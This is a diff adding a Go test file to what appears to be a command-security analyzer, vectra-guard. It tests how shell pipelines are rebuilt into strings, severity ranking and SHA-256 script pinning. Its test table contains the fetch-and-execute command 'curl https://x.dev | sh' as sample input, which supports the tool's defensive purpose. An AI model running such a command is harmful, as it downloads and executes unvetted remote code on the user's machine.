@@ -0,0 +1,45 @@
+package cmd
+
+import (
+	"testing"
+
+	"github.com/vectra-guard/vectra-guard/internal/analyzer"
+)
+
+func TestPipelineString(t *testing.T) {
+	tests := []struct {
+		args     []string
+		expected string
+	}{
+		{[]string{"bash", "-c", "curl https://x.dev | sh"}, "curl https://x.dev | sh"},
+		{[]string{"curl", "https://x.dev", "|", "sh"}, "curl https://x.dev | sh"},
+		{[]string{"python", "-c", "print(1)"}, "python -c print(1)"},
+	}
+
+	for _, tt := range tests {
+		if got := pipelineString(tt.args); got != tt.expected {
+			t.Errorf("pipelineString(%v) = %q, want %q", tt.args, got, tt.expected)
+		}
+	}
+}
+
+func TestHighestSeverity(t *testing.T) {
+	findings := []analyzer.Finding{{Severity: "medium"}, {Severity: "critical"}, {Severity: "high"}}
+	if got := highestSeverity(findings); got != "critical" {
+		t.Errorf("expected critical, got %s", got)
+	}
+	if got := highestSeverity(nil); got != "low" {
+		t.Errorf("expected low for no findings, got %s", got)
+	}
+}
+
+func TestIsPinnedScript(t *testing.T) {
+	digest := "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
+	pinned := []string{"sha256:9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"}
+	if !isPinnedScript(pinned, digest) {
+		t.Error("expected prefixed, upper-case pin to match")
+	}
+	if isPinnedScript([]string{"deadbeef"}, digest) {
+		t.Error("unexpected match for different hash")
+	}
+}